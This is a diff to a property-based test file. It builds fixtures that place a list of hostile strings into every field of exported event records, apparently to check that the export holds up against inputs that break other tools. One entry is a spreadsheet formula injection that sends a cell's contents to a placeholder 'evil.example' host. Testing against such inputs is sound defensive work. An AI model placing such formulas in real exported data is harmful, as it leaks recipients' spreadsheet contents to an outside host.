@@ -20,7 +20,7 @@ export const exampleLeaves: readonly ExportedLeaf[] = eventExamples.map(({ id, a
 })
 
 /** What tools of others trip over. */
-const hostileText = fc.constantFrom(
+const hostileTexts = [
   '',
   "'",
   '=HYPERLINK("http://evil.example?"&A1,"x")',
@@ -40,7 +40,8 @@ const hostileText = fc.constantFrom(
   '\u0000',
   'x'.repeat(20_000),
   '__proto__',
-)
+] as const
+const hostileText = fc.constantFrom(...hostileTexts)
 const text = fc.oneof(hostileText, anyText(), fc.string({ unit: 'binary' }))
 const member = fc.oneof(text, fc.integer(), fc.constant(null), fc.boolean(), fc.array(text))
 
@@ -72,3 +73,15 @@ export const drawnLeaf: fc.Arbitrary<ExportedLeaf> = fc
       Buffer.from(JSON.stringify({ ...event, ...attributes, data: drawn })),
     )
   })
+
+const each = (names: readonly string[], value: string): Readonly<Record<string, string>> =>
+  Object.fromEntries(names.map((name) => [name, value]))
+
+/** Of each type of event, with each of these texts in every member at once. */
+export const hostileLeaves: readonly ExportedLeaf[] = exampleLeaves.flatMap(({ event }) =>
+  hostileTexts.map((hostile) => {
+    const { type } = event
+    const written = { ...each(eventNames, hostile), type, data: each(dataNames, hostile) }
+    return exportedLeaf(place, Buffer.from(JSON.stringify(written)))
+  }),
+)
